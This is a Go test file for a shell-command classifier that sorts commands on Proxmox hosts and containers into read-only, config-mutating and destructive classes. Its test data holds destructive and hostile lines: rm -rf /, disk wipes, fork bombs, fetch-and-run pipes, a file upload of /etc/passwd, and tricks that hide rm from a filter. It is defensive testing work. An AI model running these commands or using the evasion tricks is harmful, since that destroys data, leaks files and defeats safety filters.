package policy

import (
	"slices"
	"strings"
	"testing"
)

type classifyTest struct {
	cmd   string
	where TargetType // "" means inside a container
	want  Class
}

var classifyTests = []classifyTest{
	// Read-only list, alone and in pipelines and sequences.
	{cmd: "df -h", want: ReadOnly},
	{cmd: "free -m", want: ReadOnly},
	{cmd: "uptime", want: ReadOnly},
	{cmd: "cat /etc/os-release", want: ReadOnly},
	{cmd: "ls -la /var/lib/jellyfin", want: ReadOnly},
	{cmd: "systemctl status jellyfin --no-pager", want: ReadOnly},
	{cmd: "systemctl --no-pager -l status jellyfin.service", want: ReadOnly},
	{cmd: "systemctl is-active jellyfin", want: ReadOnly},
	{cmd: "systemctl", want: ReadOnly},
	{cmd: "systemctl list-units --failed", want: ReadOnly},
	{cmd: "journalctl -u jellyfin -n 50 --no-pager", want: ReadOnly},
	{cmd: "journalctl -b -1 -p err", want: ReadOnly},
	{cmd: "ss -tlnp", want: ReadOnly},
	{cmd: "ip a", want: ReadOnly},
	{cmd: "ip -br addr show", want: ReadOnly},
	{cmd: "ip route get 1.1.1.1", want: ReadOnly},
	{cmd: "ip -j -p link show dev eth0", want: ReadOnly},
	{cmd: "getent hosts deb.debian.org", want: ReadOnly},
	{cmd: "ping -c 3 1.1.1.1", want: ReadOnly},
	{cmd: "dig +short deb.debian.org", want: ReadOnly},
	{cmd: "ps aux | grep -i jellyfin | head -5", want: ReadOnly},
	{cmd: "top -bn1 | head -20", want: ReadOnly},
	{cmd: "uname -a; whoami; hostname", want: ReadOnly},
	{cmd: "hostname -I", want: ReadOnly},
	{cmd: "df -h && free -m || uptime", want: ReadOnly},
	{cmd: "curl -fsS http://localhost:8096/health", want: ReadOnly},
	{cmd: "curl -sSfo /dev/null -w '%{http_code}' https://example.org/", want: ReadOnly},
	{cmd: "curl -I localhost:8080", want: ReadOnly},
	{cmd: "wget -qO- http://localhost:8000/health", want: ReadOnly},
	{cmd: "apt list --upgradable", want: ReadOnly},
	// The upgrade preview: a simulation reads the lists and changes nothing.
	{cmd: "apt-get -s upgrade", want: ReadOnly},
	{cmd: "pct exec 101 -- apt-get -s upgrade", where: TargetHost, want: ReadOnly},
	{cmd: "apt-get --simulate dist-upgrade", want: ReadOnly},
	{cmd: "apt-get -qs upgrade", want: ReadOnly},
	// Not a simulation of an upgrade: it still changes something, or
	// takes settings that may.
	{cmd: "apt-get -s update", want: ConfigMutation},
	{cmd: "apt-get -s download openssl", want: ConfigMutation},
	{cmd: "apt-get -s -o APT::Get::Simulate=0 upgrade", want: ConfigMutation},
	{cmd: "apt-get -sy upgrade", want: ConfigMutation},
	{cmd: "apt -s upgrade", want: ConfigMutation},
	{cmd: "apt-cache policy jellyfin", want: ReadOnly},
	{cmd: "dpkg -l | grep docker", want: ReadOnly},
	{cmd: "pct list", where: TargetHost, want: ReadOnly},
	{cmd: "pct status 101", where: TargetHost, want: ReadOnly},
	{cmd: "pct config 101", where: TargetHost, want: ReadOnly},
	{cmd: "pct listsnapshot 101", where: TargetHost, want: ReadOnly},
	{cmd: "pct exec 101 -- df -h", where: TargetHost, want: ReadOnly},
	{cmd: "pct exec 101 -- sh -c 'df -h | tail -1'", where: TargetHost, want: ReadOnly},
	{cmd: "zfs list -o name,used", where: TargetHost, want: ReadOnly},
	{cmd: "zpool status -x", where: TargetHost, want: ReadOnly},
	{cmd: "pvesm status", where: TargetHost, want: ReadOnly},
	{cmd: "lvs", where: TargetHost, want: ReadOnly},
	{cmd: "docker ps -a", want: ReadOnly},
	{cmd: "docker compose logs --tail 50", want: ReadOnly},
	{cmd: "docker logs -n 100 paperless", want: ReadOnly},
	{cmd: "fdisk -l", where: TargetHost, want: ReadOnly},
	{cmd: "parted /dev/sda print", where: TargetHost, want: ReadOnly},
	{cmd: "smartctl -a /dev/sda", where: TargetHost, want: ReadOnly},
	{cmd: "lsblk -f /dev/sda", where: TargetHost, want: ReadOnly},
	{cmd: "cat /dev/sda | head -c 512 | od -c", where: TargetHost, want: ConfigMutation}, // issue 9: reading a raw disk may reveal secrets
	{cmd: "iptables -nvL", where: TargetHost, want: ReadOnly},
	{cmd: "nft list ruleset", where: TargetHost, want: ReadOnly},
	{cmd: "find /var/log -name '*.gz' -mtime +7", want: ReadOnly},
	{cmd: "find /etc -name '*.conf' -exec grep -l nameserver {} \\;", want: ConfigMutation}, // issue 9: find -exec is never read-only
	{cmd: "du -sh /var/lib/* 2>/dev/null | sort -h | tail", want: ReadOnly},
	{cmd: "sort -k2 -t, data.csv", want: ReadOnly},
	{cmd: "date +%s", want: ReadOnly},
	{cmd: "timeout 5 curl -s http://10.0.0.5/", want: ConfigMutation},                          // issue 9: wrappers are never read-only
	{cmd: "sudo -u postgres cat /var/lib/postgresql/15/main/PG_VERSION", want: ConfigMutation}, // issue 9: wrappers are never read-only
	{cmd: "sh -c 'uptime'", want: ReadOnly},
	{cmd: "bash -lc \"systemctl status caddy\"", want: ReadOnly},
	{cmd: "/usr/bin/df -h", want: ReadOnly},
	{cmd: "echo hello", want: ReadOnly},
	{cmd: "ls 2>&1 | wc -l", want: ReadOnly},
	{cmd: "cat < /etc/hostname", want: ReadOnly},
	{cmd: "{ df; free; }", want: ReadOnly},
	{cmd: "(cd /etc && ls)", want: ReadOnly},
	{cmd: "resolvectl status", want: ReadOnly},
	{cmd: "hostnamectl", want: ReadOnly},
	{cmd: "mount", want: ReadOnly},
	{cmd: "dmesg -T | tail", want: ReadOnly},
	{cmd: "ls # ; rm -rf /", want: ReadOnly},
	{cmd: "", want: ReadOnly},

	// Anything else is at least config_mutation.
	{cmd: "systemctl restart jellyfin", want: ConfigMutation},
	{cmd: "systemctl status jellyfin; systemctl restart jellyfin", want: ConfigMutation},
	{cmd: "systemctl --now enable caddy", want: ConfigMutation},
	{cmd: "apt-get install -y git", want: ConfigMutation},
	{cmd: "apt update", want: ConfigMutation},
	{cmd: "df -h > /tmp/df.txt", want: ConfigMutation},
	{cmd: "echo nameserver 1.1.1.1 >> /etc/resolv.conf", want: ConfigMutation},
	{cmd: "ls &", want: ConfigMutation},
	{cmd: "echo $(hostname)", want: ConfigMutation},
	{cmd: "cat `ls`", want: ConfigMutation},
	{cmd: "diff <(ls a) <(ls b)", want: ConfigMutation},
	{cmd: "X=1 ls", want: ConfigMutation},
	{cmd: "PATH=/tmp:$PATH ls", want: ConfigMutation},
	{cmd: "for f in a b; do cat $f; done", want: ConfigMutation},
	{cmd: "if true; then ls; fi", want: ConfigMutation},
	{cmd: "cat <<EOF\nhello\nEOF", want: ConfigMutation},
	{cmd: "$CMD status", want: ConfigMutation},
	{cmd: "./cat /etc/passwd", want: ConfigMutation},
	{cmd: "/tmp/ls", want: ConfigMutation},
	{cmd: "curl -X POST http://localhost/api", want: ConfigMutation},
	{cmd: "curl -d x=1 http://localhost/api", want: ConfigMutation},
	{cmd: "curl -o /tmp/x http://localhost/", want: ConfigMutation},
	{cmd: "curl -O http://localhost/file", want: ConfigMutation},
	{cmd: "curl -sSfL https://get.docker.com | sh", want: ConfigMutation},
	{cmd: "curl gopher://127.0.0.1:6379/_FLUSHALL", want: ConfigMutation},
	{cmd: "curl -K /tmp/cfg http://x/", want: ConfigMutation},
	{cmd: "curl -w '%output{/tmp/x}' http://x/", want: ConfigMutation},
	{cmd: "curl http://x/ --upload-file /etc/passwd", want: ConfigMutation},
	{cmd: "wget http://x/file", want: ConfigMutation},
	{cmd: "hostname evil", want: ConfigMutation},
	{cmd: "date -s '2020-01-01'", want: ConfigMutation},
	{cmd: "date 010100002020", want: ConfigMutation},
	{cmd: "sort -o /etc/passwd x", want: Destructive},    // issue 9: a write onto a critical path
	{cmd: "sort --out=/etc/passwd x", want: Destructive}, // issue 9: a write onto a critical path
	{cmd: "uniq a b", want: ConfigMutation},
	{cmd: "top", want: ConfigMutation},
	{cmd: "ss -K dst 10.0.0.1", want: ConfigMutation},
	{cmd: "journalctl --vacuum-time=1s", want: ConfigMutation},
	{cmd: "journalctl --vac=1s", want: ConfigMutation},
	{cmd: "dmesg -C", want: ConfigMutation},
	{cmd: "ip link set eth0 down", want: ConfigMutation},
	{cmd: "ip link s eth0 down", want: ConfigMutation},
	{cmd: "ip -batch /tmp/cmds", want: ConfigMutation},
	{cmd: "ip route add default via 10.0.0.1", want: ConfigMutation},
	{cmd: "find / -name x -fprint /tmp/out", want: ConfigMutation},
	{cmd: "find . -exec touch {} +", want: ConfigMutation},
	{cmd: "pct stop 101", where: TargetHost, want: ConfigMutation},
	{cmd: "pct exec 101 -- systemctl restart jellyfin", where: TargetHost, want: ConfigMutation},
	{cmd: "zfs snapshot tank/data@x", where: TargetHost, want: ConfigMutation},
	{cmd: "docker restart paperless", want: ConfigMutation},
	{cmd: "docker exec db psql -c 'select 1'", want: ConfigMutation},
	{cmd: "iptables -F", where: TargetHost, want: ConfigMutation},
	{cmd: "nft 'list ruleset; flush ruleset'", where: TargetHost, want: ConfigMutation},
	{cmd: "rm /tmp/old.log", want: ConfigMutation},
	{cmd: "mv /tmp/a /tmp/b", want: ConfigMutation},
	{cmd: "chmod 600 /etc/x", want: ConfigMutation},
	{cmd: "sh script.sh", want: ConfigMutation},
	{cmd: "bash", want: ConfigMutation},
	{cmd: "python3 -c 'print(1)'", want: ConfigMutation},
	{cmd: "sed -i s/a/b/ /etc/x", want: ConfigMutation},
	{cmd: "tee /etc/hosts", want: ConfigMutation},
	{cmd: "reboot", want: ConfigMutation}, // inside a container
	{cmd: "shutdown -h now", want: ConfigMutation},
	{cmd: "shutdown -c", where: TargetHost, want: ConfigMutation},
	{cmd: "systemctl poweroff", want: ConfigMutation},
	{cmd: "kill 1", want: ConfigMutation},
	{cmd: "kill -HUP 1234", where: TargetHost, want: ConfigMutation},
	{cmd: "ssh other df -h", where: TargetHost, want: ConfigMutation},
	{cmd: "echo 'unterminated", want: ConfigMutation},
	{cmd: "source /etc/profile", want: ConfigMutation},
	{cmd: "alias ll='ls -l'", want: ConfigMutation},
	{cmd: "eval ls", want: ReadOnly},
	{cmd: "eval $X", want: ConfigMutation},
	{cmd: "mount /dev/sdb1 /mnt", where: TargetHost, want: ConfigMutation},
	{cmd: "crontab -e", want: ConfigMutation},
	{cmd: "crontab -l", want: ReadOnly},
	{cmd: "echo $((1+2))", want: ConfigMutation},
	{cmd: "env FOO=1 ls", want: ConfigMutation},
	{cmd: "nohup sleep 100 &", want: ConfigMutation},
	{cmd: "unknowncmd --version", want: ConfigMutation},

	// Destructive.
	{cmd: "rm -rf /var/lib/jellyfin", want: Destructive},
	{cmd: "rm -r old", want: Destructive},
	{cmd: "rm -fR x", want: Destructive},
	{cmd: "rm --recursive x", want: Destructive},
	{cmd: "rm --rec x", want: Destructive},
	{cmd: "rm /etc/*", want: Destructive},
	{cmd: "rm -f /", want: Destructive},
	{cmd: "\\rm -rf /tmp/x", want: Destructive},
	{cmd: "'rm' -rf /tmp/x", want: Destructive},
	{cmd: "/bin/rm -rf /tmp/x", want: Destructive},
	{cmd: "sudo rm -rf /srv", want: Destructive},
	{cmd: "ls; rm -rf /", want: Destructive},
	{cmd: "ls && rm -rf /", want: Destructive},
	{cmd: "echo $(rm -rf /)", want: Destructive},
	{cmd: "echo `rm -rf /`", want: Destructive},
	{cmd: "cat <<EOF\n$(rm -rf /)\nEOF", want: Destructive},
	{cmd: "echo \"$(rm -rf /)\"", want: Destructive},
	{cmd: "sh -c 'rm -rf /'", want: Destructive},
	{cmd: "bash -c \"sh -c 'rm -rf /'\"", want: Destructive},
	{cmd: "eval 'rm -rf /'", want: Destructive},
	{cmd: "$(echo rm) -rf /", want: Destructive},
	{cmd: "find / -delete", want: Destructive},
	{cmd: "find /tmp -exec rm {} +", want: Destructive},
	{cmd: "find . -name '*.log' | xargs rm -rf", want: Destructive},
	{cmd: "mkfs.ext4 /dev/sdb1", where: TargetHost, want: Destructive},
	{cmd: "mkfs -t xfs /dev/sdb", where: TargetHost, want: Destructive},
	{cmd: "mke2fs /dev/sdb", where: TargetHost, want: Destructive},
	{cmd: "dd if=/dev/zero of=/dev/sda bs=1M", where: TargetHost, want: Destructive},
	{cmd: "dd if=x of=/tmp/y", want: Destructive},
	{cmd: "wipefs -a /dev/sdb", where: TargetHost, want: Destructive},
	{cmd: "cat /dev/zero > /dev/sda", where: TargetHost, want: Destructive},
	{cmd: "echo x > /dev/nvme0n1", where: TargetHost, want: Destructive},
	{cmd: "cp disk.img /dev/sdb", where: TargetHost, want: Destructive},
	{cmd: "tee /dev/sda < x", where: TargetHost, want: Destructive},
	{cmd: "pct destroy 131", where: TargetHost, want: Destructive},
	{cmd: "pct rollback 101 pre-upgrade", where: TargetHost, want: Destructive},
	{cmd: "pct delsnapshot 101 snap", where: TargetHost, want: Destructive},
	{cmd: "qm destroy 200", where: TargetHost, want: Destructive},
	// qemu-server src/PVE/API2/Qemu.pm vm_stop: "akin to pulling the power
	// plug of a running computer and may damage the VM data".
	{cmd: "qm stop 200", where: TargetHost, want: Destructive},
	{cmd: "qm reset 200", where: TargetHost, want: Destructive},
	{cmd: "qm monitor 200", where: TargetHost, want: Destructive},
	{cmd: "qm rollback 200 before-update", where: TargetHost, want: Destructive},
	{cmd: "qm destroy 200 --purge 1", where: TargetHost, want: Destructive},
	{cmd: "qm shutdown 200 --timeout 60", where: TargetHost, want: ConfigMutation},
	{cmd: "qm snapshot 200 before-update --vmstate 1", where: TargetHost, want: ConfigMutation},
	{cmd: "qm guest cmd 200 ping", where: TargetHost, want: ReadOnly},
	{cmd: "qm guest cmd 200 shutdown", where: TargetHost, want: ConfigMutation},
	{cmd: "qm guest cmd $X ping", where: TargetHost, want: ConfigMutation},
	{cmd: "qm status 200", where: TargetHost, want: ReadOnly},
	{cmd: "qm list", where: TargetHost, want: ReadOnly},
	{cmd: "zfs destroy -r tank/data", where: TargetHost, want: Destructive},
	{cmd: "zfs rollback tank/data@x", where: TargetHost, want: Destructive},
	{cmd: "zpool destroy tank", where: TargetHost, want: Destructive},
	{cmd: "lvremove -f pve/vm-101-disk-0", where: TargetHost, want: Destructive},
	{cmd: "vgremove pve", where: TargetHost, want: Destructive},
	{cmd: "pvesm free local-lvm:vm-101-disk-0", where: TargetHost, want: Destructive},
	{cmd: "shutdown -h now", where: TargetHost, want: Destructive},
	{cmd: "poweroff", where: TargetHost, want: Destructive},
	{cmd: "reboot", where: TargetHost, want: Destructive},
	{cmd: "systemctl reboot", where: TargetHost, want: Destructive},
	{cmd: "init 0", where: TargetHost, want: Destructive},
	{cmd: "echo b > /proc/sysrq-trigger", where: TargetHost, want: Destructive},
	{cmd: "kill -9 1", where: TargetHost, want: Destructive},
	{cmd: "kill -9 -1", where: TargetHost, want: Destructive},
	{cmd: ":(){ :|:& };:", want: Destructive},
	{cmd: "bomb() { bomb | bomb & }; bomb", want: Destructive},
	{cmd: "function f { f & f; }; f", want: Destructive},
	{cmd: "sgdisk --zap-all /dev/sdb", where: TargetHost, want: Destructive},
	{cmd: "fdisk /dev/sdb", where: TargetHost, want: Destructive},
	{cmd: "parted /dev/sdb mklabel gpt", where: TargetHost, want: Destructive},
	{cmd: "shred -u secret", want: Destructive},
	{cmd: "docker volume prune -f", want: Destructive},
	{cmd: "docker system prune -a", want: Destructive},
	{cmd: "docker compose down -v", want: Destructive},
	{cmd: "docker exec db rm -rf /var/lib/postgresql/data", want: Destructive},
	{cmd: "crontab -r", want: Destructive},
	{cmd: "chmod -R 777 /", want: Destructive},
	{cmd: "chown -R nobody /etc", want: Destructive},
	{cmd: "mv /etc /tmp/etc", want: Destructive},
	{cmd: "rsync -a --delete src/ dst/", want: Destructive},
	{cmd: "ssh other 'rm -rf /'", where: TargetHost, want: Destructive},
	{cmd: "ssh other reboot", want: Destructive},
	{cmd: "pct exec 101 -- rm -rf /srv", where: TargetHost, want: Destructive},
	{cmd: "pct exec 101 -- reboot", where: TargetHost, want: ConfigMutation},
	{cmd: "alias ls='rm -rf /'", want: Destructive},
	{cmd: "trap 'rm -rf /tmp/x' EXIT", want: Destructive},
	{cmd: "watch 'rm -rf /tmp/x'", want: Destructive},
	{cmd: "timeout 10 dd if=/dev/zero of=/dev/sdb", where: TargetHost, want: Destructive},
	{cmd: "echo 'rm -rf / && $(", want: Destructive}, // unfollowable: the safety net
	{cmd: "x=$(rm -rf /tmp/y)", want: Destructive},
	{cmd: "cryptsetup luksFormat /dev/sdb", where: TargetHost, want: Destructive},
	{cmd: "> /dev/sda", where: TargetHost, want: Destructive},
	{cmd: "pct exec 101 -- sh -c 'mkfs.ext4 /dev/sdb'", where: TargetHost, want: Destructive},
	// qm guest exec runs a program inside a VM, as pct exec does in a
	// container: what it runs is what counts.
	{cmd: "qm guest exec 100 -- rm -rf /srv", where: TargetHost, want: Destructive},
	{cmd: "qm guest exec 100 rm -rf /srv", where: TargetHost, want: Destructive},
	{cmd: "qm guest exec 100 --timeout 5 -- dd if=/dev/zero of=/dev/vda", where: TargetHost, want: Destructive},
	{cmd: "qm guest $OP 100 rm -rf /srv", where: TargetHost, want: Destructive},
	{cmd: "qm guest exec 100 -- reboot", where: TargetHost, want: ConfigMutation},
	{cmd: "qm guest exec 100 -- df -h", where: TargetHost, want: ReadOnly},
	// Copying into a directory writes <dir>/<name of the source>; copying
	// a tree into a directory that holds the system's files may replace
	// any of them.
	{cmd: "cp /tmp/passwd /etc/", where: TargetHost, want: Destructive},
	{cmd: "cp -t /etc /tmp/shadow", where: TargetHost, want: Destructive},
	{cmd: "ln -sf /tmp/passwd /etc", where: TargetHost, want: Destructive},
	{cmd: "install -m 644 /tmp/interfaces /etc/network/", where: TargetHost, want: Destructive},
	{cmd: "rsync /tmp/passwd /etc/", where: TargetHost, want: Destructive},
	{cmd: "cp -r /tmp/x/. /etc/", where: TargetHost, want: Destructive},
	{cmd: "cp -a /tmp/root/ /", where: TargetHost, want: Destructive},
	{cmd: "rsync -a /tmp/x/ /", where: TargetHost, want: Destructive},
	{cmd: "cp -r /tmp/etc /", want: Destructive},
	{cmd: "cp /tmp/hosts /etc/", where: TargetHost, want: ConfigMutation},
	{cmd: "cp -r /srv/site /var/www/", want: ConfigMutation},
	{cmd: "cp app.conf /etc/nginx/conf.d/", want: ConfigMutation},

	// Tricks that hide a command from a naive reader.
	{cmd: "$'\\x72m' -rf /srv", want: Destructive},
	{cmd: "$'\\162\\155' -rf /srv", want: Destructive},
	{cmd: "{rm,-rf,/srv}", want: Destructive},
	{cmd: "rm {-rf,/srv}", want: Destructive},
	{cmd: "x=rm; $x -rf /", want: Destructive},
	{cmd: "rm${IFS}-rf${IFS}/srv", want: Destructive},
	{cmd: "rm $TARGET", want: Destructive},
	{cmd: "/bin/r? -rf /", want: Destructive},
	{cmd: "pct $ACTION 131", where: TargetHost, want: Destructive},
	{cmd: "zfs $OP tank", where: TargetHost, want: Destructive},
	{cmd: "docker $CMD", want: Destructive},
	{cmd: "systemctl $VERB", where: TargetHost, want: Destructive},
	{cmd: "find . $ACTION", want: Destructive},
	{cmd: "find $DIR -name x", want: Destructive},
	{cmd: "pct exec 101 rm -rf /srv", where: TargetHost, want: Destructive},
	{cmd: "ssh other -- rm -rf /srv", where: TargetHost, want: Destructive},
	{cmd: "env -S 'rm -rf /srv'", want: Destructive},
	{cmd: "ip netns exec blue rm -rf /srv", where: TargetHost, want: Destructive},
	{cmd: "nsenter -t 1 -m -- rm -rf /srv", where: TargetHost, want: Destructive},
	{cmd: "systemd-run --scope ls", want: ConfigMutation},
	{cmd: "docker run --rm -v /:/h alpine rm -rf /h", want: Destructive},
	{cmd: "docker run -d nginx", want: ConfigMutation},
	{cmd: "rm -f /etc/pve/lxc/101.conf", where: TargetHost, want: Destructive},
	{cmd: "cd /proc && echo b > sysrq-trigger", where: TargetHost, want: Destructive},
	{cmd: "ipmitool chassis power off", where: TargetHost, want: Destructive},
	{cmd: "ceph osd purge 3 --yes-i-really-mean-it", where: TargetHost, want: Destructive},
	{cmd: "blkid -c /tmp/cache", want: ConfigMutation},
	{cmd: "smartctl -l scterc,70,70 /dev/sda", where: TargetHost, want: ConfigMutation},
	{cmd: "smartctl -l selftest /dev/sda", where: TargetHost, want: ReadOnly},
	{cmd: "echo {a,b}", want: ConfigMutation},
}

func (tt classifyTest) place() TargetType {
	if tt.where == "" {
		return TargetLXC
	}
	return tt.where
}

func TestClassifyCommand(t *testing.T) {
	t.Parallel()
	for _, tt := range classifyTests {
		got := ClassifyCommand(tt.cmd, tt.place())
		if got.Class != tt.want {
			t.Errorf("ClassifyCommand(%q, %s) = %s %q, want %s", tt.cmd, tt.place(), got.Class, got.Reasons, tt.want)
		}
		if got.Class > ReadOnly && len(got.Reasons) == 0 {
			t.Errorf("ClassifyCommand(%q) = %s with no reason", tt.cmd, got.Class)
		}
	}
}

func TestClassifyCommandReasons(t *testing.T) {
	t.Parallel()
	tests := []struct {
		cmd, want string
	}{
		{"rm -rf /srv", "rm -r deletes recursively"},
		{"df > /tmp/x", "writes to /tmp/x"},
		{"frobnicate", "frobnicate is not on the read-only list"},
		{"ls &", "runs a command in the background"},
		{":(){ :|:& };:", "defines a shell function that calls itself (a fork bomb)"},
		{"dd if=/dev/zero of=/dev/sda", "dd of= writes raw blocks"},
	}
	for _, tt := range tests {
		got := ClassifyCommand(tt.cmd, TargetHost)
		if len(got.Reasons) == 0 || got.Reasons[0] != tt.want {
			t.Errorf("ClassifyCommand(%q) reasons = %q, want first %q", tt.cmd, got.Reasons, tt.want)
		}
	}
}

func FuzzClassifyCommand(f *testing.F) {
	for _, tt := range classifyTests {
		f.Add(tt.cmd, tt.where == TargetHost)
	}
	for _, tt := range issueTests {
		f.Add(tt.cmd, tt.where == TargetHost)
	}
	f.Fuzz(func(t *testing.T, cmd string, onHost bool) {
		where := TargetLXC
		if onHost {
			where = TargetHost
		}
		got := ClassifyCommand(cmd, where)
		if !got.Class.Valid() {
			t.Fatalf("ClassifyCommand(%q) = invalid class %d", cmd, got.Class)
		}
		if again := ClassifyCommand(cmd, where); again.Class != got.Class || !slices.Equal(again.Reasons, got.Reasons) {
			t.Fatalf("ClassifyCommand(%q) is not deterministic: %v then %v", cmd, got, again)
		}
		if len(got.Reasons) > maxReasons {
			t.Fatalf("ClassifyCommand(%q) gave %d reasons", cmd, len(got.Reasons))
		}
		// Quoting a script into sh -c changes nothing, unless it starts like
		// an option, which sh would read as one (validation refuses those).
		wrapped := ClassifyCommand("sh -c "+ShellQuote(cmd), where)
		if !strings.HasPrefix(cmd, "-") && !strings.HasPrefix(cmd, "+") &&
			!slices.Contains(wrapped.Reasons, "could not follow the script: "+reasonTooDeep) && wrapped.Class != got.Class {
			t.Fatalf("sh -c %s = %s, but %q = %s", ShellQuote(cmd), wrapped.Class, cmd, got.Class)
		}
		// A background job is never read-only.
		if bg := ClassifyCommand(cmd+"\n:&", where); bg.Class == ReadOnly {
			t.Fatalf("%q followed by a background job is read_only", cmd)
		}
		// rm -rf after anything (but a here-document, which can swallow it as
		// data) is destructive.
		if !strings.Contains(cmd, "<<") {
			if d := ClassifyCommand(cmd+"\n;rm -rf /", where); d.Class != Destructive {
				t.Fatalf("%q followed by rm -rf / = %s %q", cmd, d.Class, d.Reasons)
			}
		}
	})
}
